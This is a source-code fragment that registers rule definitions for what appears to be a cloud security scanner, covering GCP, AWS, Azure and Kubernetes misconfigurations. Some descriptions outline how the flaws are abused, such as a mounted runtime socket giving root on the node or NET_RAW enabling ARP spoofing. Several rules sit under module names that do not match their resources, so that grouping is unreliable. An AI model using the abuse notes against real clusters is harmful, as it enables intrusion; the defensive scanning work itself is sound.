  deferred("terraform-google-compute", { "id": "gcp-compute-ip-forwarding", "title": "Compute Engine instance has IP forwarding enabled", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template"], "description": "`can_ip_forward = true` lets the VM send and receive packets for addresses that are not its own, so it can route or spoof traffic between networks. Only NAT gateways, firewalls and similar appliances need it.", "remediation": "Set `can_ip_forward = false` unless the instance is a network appliance; prefer Cloud NAT and Cloud Router to routing VMs.", "precision": "high", "cwe": ["CWE-923"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["4.6"] }, "tags": ["gcp", "compute", "ip-forwarding"], "references": ["https://cloud.google.com/vpc/docs/using-routes#canipforward", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#can_ip_forward"] }),
  deferred("terraform-google-compute", { "id": "gcp-compute-public-ip", "title": "Compute Engine instance has a public IP address", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_compute_instance", "google_compute_instance_template", "google_compute_region_instance_template"], "description": "An `access_config` block on a network interface gives the VM an external (public) IP address. Its services are then reachable from the internet wherever a firewall rule allows it, and one permissive rule is enough to expose them.", "remediation": "Remove `access_config` and reach the instance through Cloud NAT for outbound traffic and a load balancer or Identity-Aware Proxy for inbound access.", "precision": "high", "cwe": ["CWE-668"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["4.9"] }, "tags": ["gcp", "compute", "network-exposure", "public-ip"], "references": ["https://cloud.google.com/compute/docs/ip-addresses#externaladdresses", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_instance#access_config"] }),
  deferred("terraform-google-compute", { "id": "gcp-firewall-all-ports-open-to-internet", "title": "VPC firewall rule allows all ports from the internet (0.0.0.0/0)", "severity": "critical", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_compute_firewall"], "description": "An ingress rule admits `0.0.0.0/0` on every port (protocol `all`, a protocol without `ports`, or `0-65535`). Every service on the targeted VMs, including management agents and databases never meant to be public, is reachable from the internet.", "remediation": "Allow only the ports the service offers, and restrict `source_ranges` (or use `source_tags` / service accounts) to the clients that need them.", "precision": "very-high", "cwe": ["CWE-284"], "tags": ["gcp", "firewall", "network-exposure"], "references": ["https://cloud.google.com/firewall/docs/firewalls", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_firewall"] }),
  deferred("terraform-google-compute", { "id": "gcp-firewall-sensitive-port-open-to-internet", "title": "VPC firewall rule opens a database or administration port to the internet (0.0.0.0/0)", "severity": "high", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_compute_firewall"], "description": "An ingress rule admits `0.0.0.0/0` to a port used by a database, a cache, a cluster service or a remote administration protocol other than SSH and RDP (PostgreSQL, MySQL, Redis, Elasticsearch, the Kubernetes API, WinRM…). These services are rarely meant to be public and are among the first things attackers probe.", "remediation": "Restrict `source_ranges` to the networks that need the service, or reach it over private IPs, Private Service Connect or a VPN.", "precision": "high", "cwe": ["CWE-284"], "tags": ["gcp", "firewall", "network-exposure"], "references": ["https://cloud.google.com/firewall/docs/firewalls", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_firewall"] }),
  deferred("terraform-google-compute", { "id": "gcp-firewall-ssh-rdp-open-to-internet", "title": "VPC firewall rule allows SSH or RDP from the internet (0.0.0.0/0)", "severity": "critical", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_compute_firewall"], "description": "An ingress rule admits `0.0.0.0/0` to port 22 (SSH) or 3389 (RDP). Internet-wide scanners find such ports within minutes and try stolen and common credentials against them; a single weak account or unpatched daemon gives a shell on the VM.", "remediation": "Restrict `source_ranges` to known administration networks, or use Identity-Aware Proxy TCP forwarding (`35.235.240.0/20`) with OS Login instead of exposing the ports.", "precision": "very-high", "cwe": ["CWE-284"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["3.6", "3.7"] }, "tags": ["gcp", "firewall", "network-exposure", "ssh", "rdp"], "references": ["https://cloud.google.com/firewall/docs/firewalls", "https://cloud.google.com/iap/docs/using-tcp-forwarding", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/compute_firewall"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-control-plane-open-to-internet", "title": "GKE master authorized networks allow the whole internet (0.0.0.0/0)", "severity": "high", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": "A master authorized network of `0.0.0.0/0` defeats the feature: the Kubernetes API server accepts connections from anywhere, so stolen credentials and API server vulnerabilities are exploitable from the whole internet.", "remediation": "List only the networks that administer the cluster (office ranges, CI runners, a bastion) in `master_authorized_networks_config`, or use a private endpoint.", "precision": "very-high", "cwe": ["CWE-284"], "tags": ["gcp", "gke", "kubernetes", "network-exposure", "authorized-networks"], "references": ["https://cloud.google.com/kubernetes-engine/docs/how-to/authorized-networks", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#master_authorized_networks_config"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-master-authorized-networks-missing", "title": "GKE control plane public endpoint without master authorized networks", "severity": "medium", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": "The cluster has a public control plane endpoint and no `master_authorized_networks_config`, so the Kubernetes API server is reachable from any IP address on the internet. Authentication still applies, but leaked credentials and API server vulnerabilities can be used from anywhere.", "remediation": "Add `master_authorized_networks_config` listing the networks that administer the cluster, or enable the private endpoint (`enable_private_endpoint = true`).", "precision": "high", "cwe": ["CWE-284"], "tags": ["gcp", "gke", "kubernetes", "network-exposure", "authorized-networks"], "references": ["https://cloud.google.com/kubernetes-engine/docs/how-to/authorized-networks", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#master_authorized_networks_config"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-network-policy-disabled", "title": "GKE cluster without network policy enforcement", "severity": "low", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": "Neither network policy enforcement (`network_policy { enabled = true }`) nor GKE Dataplane V2 is on, so Kubernetes NetworkPolicies are ignored and every pod can reach every other pod. One compromised workload can then talk to any service in the cluster.", "remediation": 'Create the cluster with `datapath_provider = "ADVANCED_DATAPATH"` (Dataplane V2), or enable `network_policy { enabled = true, provider = "CALICO" }`, and add NetworkPolicies.', "precision": "high", "cwe": ["CWE-923"], "tags": ["gcp", "gke", "kubernetes", "network-policy"], "references": ["https://cloud.google.com/kubernetes-engine/docs/how-to/network-policy", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#network_policy"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-private-nodes", "title": "GKE cluster is not a private cluster (nodes have public IP addresses)", "severity": "medium", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": "Without `private_cluster_config { enable_private_nodes = true }` every node gets a public IP address. The kubelet and any NodePort or hostPort service are then only a firewall rule away from the internet.", "remediation": "Create the cluster as a private cluster (`enable_private_nodes = true`) and give nodes outbound access through Cloud NAT.", "precision": "high", "cwe": ["CWE-668"], "tags": ["gcp", "gke", "kubernetes", "private-cluster", "network-exposure"], "references": ["https://cloud.google.com/kubernetes-engine/docs/concepts/private-cluster-concept", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#enable_private_nodes"] }),
  deferred("terraform-google-kms", { "id": "gcp-sql-authorized-network-open", "title": "Cloud SQL instance open to the internet (authorized network 0.0.0.0/0)", "severity": "critical", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_sql_database_instance"], "description": "An authorized network of `0.0.0.0/0` on an instance with a public IP lets any host on the internet connect to the database port. Only the database password then protects the data, against constant password spraying.", "remediation": "Remove the `0.0.0.0/0` authorized network; connect through private IP (`private_network`, `ipv4_enabled = false`) or the Cloud SQL Auth Proxy, or list only specific client addresses.", "precision": "very-high", "cwe": ["CWE-284"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["6.5"] }, "tags": ["gcp", "cloud-sql", "network-exposure", "public-ip"], "references": ["https://cloud.google.com/sql/docs/mysql/authorize-networks", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/sql_database_instance#authorized_networks"] }),
  deferred("terraform-google-kms", { "id": "gcp-sql-public-ip", "title": "Cloud SQL instance has a public IP address", "severity": "medium", "category": "networking", "platforms": ["terraform"], "resourceTypes": ["google_sql_database_instance"], "description": "`ipv4_enabled` is true, or not set (it defaults to true), so the instance gets a public IP address. Authorized networks and the Auth Proxy still gate connections, but the database is one misconfigured authorized network away from the internet. (An instance already open to `0.0.0.0/0` is reported by the authorized-network rule instead.)", "remediation": "Set `ipv4_enabled = false` with `private_network` pointing at your VPC, and connect over private IP or Private Service Connect.", "precision": "high", "cwe": ["CWE-668"], "frameworks": { "CIS Google Cloud Platform Foundation 2.0": ["6.6"] }, "tags": ["gcp", "cloud-sql", "network-exposure", "public-ip"], "references": ["https://cloud.google.com/sql/docs/mysql/configure-private-ip", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/sql_database_instance#ipv4_enabled"] }),
  deferred("terraform-aws-dms", { "id": "aws-ecr-image-tags-mutable", "title": "ECR repository allows mutable image tags", "severity": "low", "category": "supply-chain", "platforms": ["terraform"], "resourceTypes": ["aws_ecr_repository"], "description": "Image tags in the repository are mutable (the default): pushing again under an existing tag such as `v1.4.2` silently replaces the image. Deployments that pull by tag can then run code that was never reviewed or scanned, and a compromised pipeline can swap a released image without a trace in the tag.", "remediation": 'Set `image_tag_mutability = "IMMUTABLE"` (or `IMMUTABLE_WITH_EXCLUSION` for a `latest`-style tag you deliberately move), and deploy images by digest.', "precision": "very-high", "cwe": ["CWE-494"], "tags": ["ecr", "container-image", "mutable-tags", "immutable-tags"], "references": ["https://docs.aws.amazon.com/AmazonECR/latest/userguide/image-tag-mutability.html"] }),
  deferred("terraform-aws-dms", { "id": "aws-ecr-scan-on-push-disabled", "title": "ECR repository image scan on push not enabled", "severity": "low", "category": "supply-chain", "platforms": ["terraform"], "resourceTypes": ["aws_ecr_repository"], "description": "Images pushed to the repository are not scanned for known vulnerabilities (`image_scanning_configuration.scan_on_push` is not true) and no registry-wide scanning configuration is declared. Images with known CVEs in their OS packages or libraries reach deployment unnoticed.", "remediation": "Set `image_scanning_configuration { scan_on_push = true }`, or configure scanning for the whole registry with `aws_ecr_registry_scanning_configuration` (enhanced scanning with Amazon Inspector rescans continuously).", "precision": "high", "cwe": ["CWE-1104"], "tags": ["ecr", "container-image", "scan-on-push", "vulnerability-scanning"], "references": ["https://docs.aws.amazon.com/AmazonECR/latest/userguide/image-scanning.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ecr_registry_scanning_configuration"] }),
  deferred("terraform-aws-lambda", { "id": "aws-lambda-deprecated-runtime", "title": "Lambda function on a deprecated runtime", "severity": "medium", "category": "supply-chain", "platforms": ["terraform"], "resourceTypes": ["aws_lambda_function"], "description": "AWS stops patching a Lambda runtime once its language version or operating system reaches end of life. The function keeps running on an interpreter and base image with known, unfixed vulnerabilities, and AWS later blocks updates to it, which makes an emergency fix slow.", "remediation": "Move the function to a supported runtime of the same language (for example `nodejs22.x`, `python3.13`, `java21`, `provided.al2023`), test it, and update the `runtime` argument.", "precision": "very-high", "cwe": ["CWE-1104"], "tags": ["aws", "lambda", "runtime", "deprecated", "end-of-life"], "references": ["https://docs.aws.amazon.com/lambda/latest/dg/lambda-runtimes.html", "https://docs.aws.amazon.com/lambda/latest/dg/runtime-support-policy.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lambda_function#runtime"] }),
  deferred("terraform-aws-ami", { "id": "aws-api-gateway-stage-access-logs-missing", "title": "API Gateway stage without access logging", "severity": "low", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["aws_api_gateway_stage", "aws_apigatewayv2_stage"], "description": "API Gateway writes no access logs unless a stage names a destination. Without them there is no per-request record of callers, source addresses, authorisers' decisions and errors, so abuse of a public API cannot be traced or alerted on.", "remediation": "Add `access_log_settings { destination_arn = aws_cloudwatch_log_group.<name>.arn, format = jsonencode({ … }) }` to the stage (the account also needs a CloudWatch role for REST APIs).", "precision": "high", "cwe": ["CWE-778"], "tags": ["aws", "api-gateway", "access-logs", "logging"], "references": ["https://docs.aws.amazon.com/apigateway/latest/developerguide/set-up-logging.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/api_gateway_stage#access_log_settings", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/apigatewayv2_stage#access_log_settings"] }),
  deferred("terraform-aws-cloudtrail", { "id": "aws-cloudtrail-log-file-validation-disabled", "title": "CloudTrail log file integrity validation not enabled", "severity": "low", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["aws_cloudtrail"], "description": "Without log file validation CloudTrail writes no signed digest files, so nobody can prove that the audit logs in the bucket were not edited or deleted after delivery. An intruder with bucket access can cover their tracks undetected.", "remediation": "Set `enable_log_file_validation = true` and check the digests with `aws cloudtrail validate-logs` during investigations.", "precision": "very-high", "cwe": ["CWE-354"], "frameworks": { "CIS AWS 1.4.0": ["3.2"] }, "tags": ["aws", "cloudtrail", "audit", "logging", "integrity"], "references": ["https://docs.aws.amazon.com/awscloudtrail/latest/userguide/cloudtrail-log-file-validation-intro.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudtrail#enable_log_file_validation"] }),
  deferred("terraform-aws-cloudtrail", { "id": "aws-cloudtrail-not-multi-region", "title": "CloudTrail trail records only its home region", "severity": "medium", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["aws_cloudtrail"], "description": "A single-region trail logs API calls made in one region only. An attacker who launches instances, creates keys or changes IAM-adjacent settings in another region leaves no trail entry, and regions nobody uses are exactly where such activity goes unnoticed.", "remediation": "Set `is_multi_region_trail = true` (and keep `include_global_service_events = true`) so the trail records every region, including ones enabled later.", "precision": "high", "cwe": ["CWE-778"], "frameworks": { "CIS AWS 1.4.0": ["3.1"] }, "tags": ["aws", "cloudtrail", "audit", "logging"], "references": ["https://docs.aws.amazon.com/awscloudtrail/latest/userguide/receive-cloudtrail-log-files-from-multiple-regions.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/cloudtrail#is_multi_region_trail"] }),
  deferred("terraform-aws-efs", { "id": "aws-eks-control-plane-logging-incomplete", "title": "EKS control-plane API or audit logs not enabled", "severity": "low", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["aws_eks_cluster"], "description": "EKS sends no control-plane logs to CloudWatch unless `enabled_cluster_log_types` lists them. Without the `audit` and `api` logs there is no record of who read secrets, created pods or changed RBAC in the cluster.", "remediation": 'Set `enabled_cluster_log_types = ["api", "audit", "authenticator"]` (add `controllerManager` and `scheduler` if useful) and give the `/aws/eks/<cluster>/cluster` log group a retention period.', "precision": "high", "cwe": ["CWE-778"], "tags": ["aws", "eks", "kubernetes", "audit", "logging"], "references": ["https://docs.aws.amazon.com/eks/latest/userguide/control-plane-logs.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/eks_cluster#enabled_cluster_log_types"] }),
  deferred("terraform-aws-lb", { "id": "aws-lb-access-logs-disabled", "title": "Load balancer access logs switched off", "severity": "low", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["aws_lb", "aws_alb", "aws_elb"], "description": "Access logs are the only record of each request a load balancer received: client address, path, status and TLS details. With them switched off, probing, credential stuffing or exploitation attempts against the application behind it cannot be reconstructed.", "remediation": 'Set `access_logs { bucket = "<log bucket>", enabled = true }`; the bucket policy must allow the Elastic Load Balancing log delivery principal to write.', "precision": "high", "cwe": ["CWE-778"], "tags": ["aws", "elb", "alb", "access-logs", "logging"], "references": ["https://docs.aws.amazon.com/elasticloadbalancing/latest/application/enable-access-logging.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lb#access_logs", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elb#access_logs"] }),
  deferred("terraform-azurerm-kubernetes", { "id": "azure-aks-monitoring-disabled", "title": "AKS monitoring add-on (Container Insights) explicitly disabled", "severity": "low", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["azurerm_kubernetes_cluster"], "description": "The `oms_agent` add-on sends container logs, node and pod metrics to Log Analytics. With it switched off, a crashed, compromised or resource-starved workload leaves no record outside the cluster, and alerts built on Container Insights never fire.", "remediation": "Enable the add-on: `oms_agent { log_analytics_workspace_id = azurerm_log_analytics_workspace.<name>.id }` (provider 3.x and later) or `addon_profile { oms_agent { enabled = true, log_analytics_workspace_id = … } }` (provider 2.x).", "precision": "very-high", "cwe": ["CWE-778"], "tags": ["azure", "aks", "kubernetes", "monitoring", "logging"], "references": ["https://learn.microsoft.com/azure/azure-monitor/containers/container-insights-overview", "https://registry.terraform.io/providers/hashicorp/azurerm/2.99.0/docs/resources/kubernetes_cluster#oms_agent"] }),
  deferred("terraform-azurerm-redis", { "id": "azure-defender-free-tier", "title": "Microsoft Defender for Cloud plan on the Free pricing tier", "severity": "medium", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["azurerm_security_center_subscription_pricing"], "description": "On the Free tier Defender for Cloud only assesses configuration; the threat detection of the Standard tier (alerts on suspicious logins, malware, SQL injection, anomalous storage access) is off for this resource type across the subscription.", "remediation": 'Set `tier = "Standard"` for each `resource_type` that runs workloads (VirtualMachines, SqlServers, StorageAccounts, KeyVaults, Containers, AppServices…).', "precision": "very-high", "cwe": ["CWE-778"], "tags": ["azure", "defender", "security-center", "threat-detection"], "references": ["https://learn.microsoft.com/azure/defender-for-cloud/defender-for-cloud-introduction", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/security_center_subscription_pricing#tier"] }),
  deferred("terraform-azurerm-mssql", { "id": "azure-network-watcher-flow-log-disabled", "title": "Network Watcher flow log explicitly disabled", "severity": "low", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["azurerm_network_watcher_flow_log"], "description": "A flow log records which addresses talked to which ports through a network security group or virtual network. Turned off, there is no trace of lateral movement, scanning or data leaving the network to investigate after an incident.", "remediation": "Set `enabled = true` on the flow log, keep a `retention_policy` long enough for investigations, and consider traffic analytics.", "precision": "very-high", "cwe": ["CWE-778"], "tags": ["azure", "network-watcher", "flow-logs", "logging"], "references": ["https://learn.microsoft.com/azure/network-watcher/nsg-flow-logs-overview", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/network_watcher_flow_log#enabled"] }),
  deferred("terraform-azurerm-mssql", { "id": "azure-postgresql-logging-parameter-off", "title": "PostgreSQL server parameter turns off connection or checkpoint logging", "severity": "low", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["azurerm_postgresql_configuration", "azurerm_postgresql_flexible_server_configuration"], "description": "The server logs are where an Azure Database for PostgreSQL records who connected, from where, and for how long. Setting `log_connections`, `log_disconnections` or `log_checkpoints` to off removes that evidence for investigations and for alerting on password guessing.", "remediation": 'Remove the configuration resource or set its `value = "on"`, and send the server logs to Log Analytics with a diagnostic setting.', "precision": "very-high", "cwe": ["CWE-778"], "frameworks": { "CIS Azure 1.3.0": ["4.3.2", "4.3.3", "4.3.4"] }, "tags": ["azure", "postgresql", "database", "logging"], "references": ["https://learn.microsoft.com/azure/postgresql/single-server/concepts-server-logs", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/postgresql_configuration"] }),
  deferred("terraform-azurerm-redis", { "id": "azure-security-center-alert-notifications-disabled", "title": "Defender for Cloud security contact does not receive alert notifications", "severity": "low", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["azurerm_security_center_contact"], "description": "The security contact is configured but alert e-mails to it, or to the subscription's owners, are switched off. High-severity alerts then wait in the portal until someone happens to look, which delays the response to an active attack.", "remediation": "Set `alert_notifications = true` and `alerts_to_admins = true` on the security contact.", "precision": "very-high", "cwe": ["CWE-778"], "tags": ["azure", "defender", "security-center", "alerts", "notifications"], "references": ["https://learn.microsoft.com/azure/defender-for-cloud/configure-email-notifications", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/security_center_contact"] }),
  deferred("terraform-azurerm-mssql", { "id": "azure-sql-threat-detection-alerts-disabled", "title": "Azure SQL threat detection disabled or some of its alerts turned off", "severity": "medium", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["azurerm_mssql_server_security_alert_policy", "azurerm_mssql_managed_instance_security_alert_policy", "azurerm_mssql_database", "azurerm_sql_database", "azurerm_sql_server"], "description": "Advanced Threat Protection for Azure SQL raises alerts on SQL injection, brute-force logins, access from unusual places and data exfiltration. A disabled policy, or a `disabled_alerts` list, silences exactly the signals that show a database being attacked.", "remediation": 'Set `state = "Enabled"` (or `enabled = true` for managed instances) and leave `disabled_alerts` empty, with `email_addresses` or `email_account_admins` set so someone receives the alerts.', "precision": "very-high", "cwe": ["CWE-778"], "tags": ["azure", "sql", "threat-detection", "defender", "alerts"], "references": ["https://learn.microsoft.com/azure/azure-sql/database/threat-detection-overview", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_server_security_alert_policy", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_database#threat_detection_policy"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-logging-disabled", "title": 'GKE cluster logging turned off (logging_service = "none")', "severity": "medium", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": 'With `logging_service = "none"` a GKE cluster sends no system or workload logs to Cloud Logging. Container output, node events and control-plane component logs are lost when pods restart, leaving nothing to investigate a compromise with.', "remediation": 'Remove `logging_service` or set it to `"logging.googleapis.com/kubernetes"`; select the components to collect with `logging_config { enable_components = ["SYSTEM_COMPONENTS", "WORKLOADS"] }`.', "precision": "very-high", "cwe": ["CWE-778"], "tags": ["gcp", "gke", "kubernetes", "logging"], "references": ["https://cloud.google.com/kubernetes-engine/docs/concepts/about-logs", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#logging_service"] }),
  deferred("terraform-google-container", { "id": "gcp-gke-monitoring-disabled", "title": 'GKE cluster monitoring turned off (monitoring_service = "none")', "severity": "low", "category": "logging", "platforms": ["terraform"], "resourceTypes": ["google_container_cluster"], "description": 'With `monitoring_service = "none"` a GKE cluster exports no metrics to Cloud Monitoring, so alerting policies on node, pod or control-plane health cannot fire; a crypto-miner eating CPU or a denial of service goes unnoticed.', "remediation": 'Remove `monitoring_service` or set it to `"monitoring.googleapis.com/kubernetes"`; pick components with `monitoring_config { enable_components = ["SYSTEM_COMPONENTS"] }`.', "precision": "very-high", "cwe": ["CWE-778"], "tags": ["gcp", "gke", "kubernetes", "monitoring"], "references": ["https://cloud.google.com/kubernetes-engine/docs/how-to/configure-metrics", "https://registry.terraform.io/providers/hashicorp/google/latest/docs/resources/container_cluster#monitoring_service"] }),
  deferred("kubernetes-pod", { "id": "k8s-apparmor-unconfined", "title": "AppArmor profile set to unconfined", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The container runs with AppArmor `unconfined` (through the `appArmorProfile` field or the older `container.apparmor.security.beta.kubernetes.io` annotation), which removes the runtime's default profile that blocks writes to `/proc` and `/sys`, mounts and other container-escape techniques. The Pod Security Standards baseline profile forbids it.", "remediation": "Remove the override so the runtime's default profile applies, or set `appArmorProfile: { type: RuntimeDefault }` (or a `Localhost` profile).", "precision": "very-high", "cwe": ["CWE-693"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Pod security: use seccomp, AppArmor or SELinux"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "apparmor", "workload-privilege"], "references": ["https://kubernetes.io/docs/tutorials/security/apparmor/", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
  deferred("kubernetes-pod", { "id": "k8s-capabilities-added", "title": "Container adds Linux capabilities beyond NET_BIND_SERVICE", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The container adds Linux capabilities other than `NET_BIND_SERVICE`, the only one the Pod Security Standards restricted profile allows; capabilities outside the baseline set (such as `AUDIT_CONTROL` or `SYS_TIME`) also break the baseline profile. Each one widens what a compromised process can do to the node. The most dangerous ones are reported by their own rules.", "remediation": "Drop `ALL` capabilities and add back only `NET_BIND_SERVICE` when the process binds a port below 1024; redesign the workload if it needs more.", "precision": "high", "cwe": ["CWE-250"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.9"], "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"], "Pod Security Standards": ["baseline", "restricted"] }, "tags": ["pod-security", "capabilities", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#set-capabilities-for-a-container"] }),
  deferred("kubernetes-pod", { "id": "k8s-capabilities-not-dropped", "title": "Container does not drop ALL capabilities", "severity": "low", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "Without `capabilities.drop: [ALL]` the container keeps the runtime's default capability set, which includes `NET_RAW`, `CHOWN`, `DAC_OVERRIDE`, `SETUID` and `MKNOD`: more than almost any application needs, and useful to an attacker who gets code execution. The Pod Security Standards restricted profile requires dropping `ALL`.", "remediation": 'Set `securityContext.capabilities.drop: ["ALL"]` on every container and add back only `NET_BIND_SERVICE` where a low port is needed.', "precision": "very-high", "cwe": ["CWE-250"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.10"], "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"], "Pod Security Standards": ["restricted"] }, "tags": ["pod-security", "capabilities", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#set-capabilities-for-a-container"] }),
  deferred("kubernetes-pod", { "id": "k8s-capability-net-raw", "title": "Container adds the NET_RAW or NET_ADMIN capability", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "`NET_RAW` lets a container craft raw packets (ARP and DNS spoofing of its neighbours on the node's bridge); `NET_ADMIN` lets it reconfigure interfaces, routes and firewall rules of its network namespace, or of the node's when it shares it. Neither is in the Pod Security Standards baseline set.", "remediation": "Remove the capability. Use `ping` replacements that rely on unprivileged ICMP sockets, and leave network plumbing to the CNI plugin.", "precision": "very-high", "cwe": ["CWE-250"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.8"], "NSA-CISA Kubernetes Hardening": ["Pod security: non-root, unprivileged containers"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "capabilities", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/security/pod-security-standards/", "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/#set-capabilities-for-a-container"] }),
  deferred("kubernetes-clusterrole", { "id": "k8s-configmap-credentials", "title": "ConfigMap holds credentials (hardcoded secret in a ConfigMap)", "severity": "medium", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["ConfigMap"], "description": "A ConfigMap key named like a password, token or key holds a literal value, or a value contains a recognisable credential. ConfigMaps are not meant for secrets: they are readable by many more roles than Secrets, are not encrypted at rest by the API server's encryption configuration, and end up in logs and dumps.", "remediation": "Move the credential into a Secret (created from an external secret store) and reference it from the workload; rotate the exposed value.", "precision": "medium", "cwe": ["CWE-798", "CWE-312"], "frameworks": { "NSA-CISA Kubernetes Hardening": ["Secrets: keep credentials out of pod specs"] }, "tags": ["secrets", "hardcoded-secret"], "references": ["https://kubernetes.io/docs/concepts/configuration/configmap/", "https://kubernetes.io/docs/concepts/security/secrets-good-practices/"] }),
  deferred("kubernetes-pod", { "id": "k8s-container-runtime-socket", "title": "Pod mounts the container runtime socket (docker.sock, containerd.sock)", "severity": "critical", "category": "iam", "platforms": ["kubernetes"], "resourceTypes": ["Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "ReplicationController", "Job", "CronJob"], "description": "The pod mounts the Docker, containerd or CRI-O socket of its node. Whoever can talk to that socket can start a privileged container with the node's root filesystem mounted: it is root on the node, whatever the pod's own security context says, and a read-only mount does not prevent it.", "remediation": "Do not mount runtime sockets into workloads. Build images with rootless builders (BuildKit rootless, kaniko) and read container metadata through the Kubernetes API instead.", "precision": "very-high", "cwe": ["CWE-250", "CWE-668"], "frameworks": { "CIS Kubernetes 1.9": ["5.2.12"], "NSA-CISA Kubernetes Hardening": ["Pod security: restrict host filesystem access"], "Pod Security Standards": ["baseline"] }, "tags": ["pod-security", "host-path", "docker-socket", "workload-privilege"], "references": ["https://kubernetes.io/docs/concepts/storage/volumes/#hostpath", "https://kubernetes.io/docs/concepts/security/pod-security-standards/"] }),
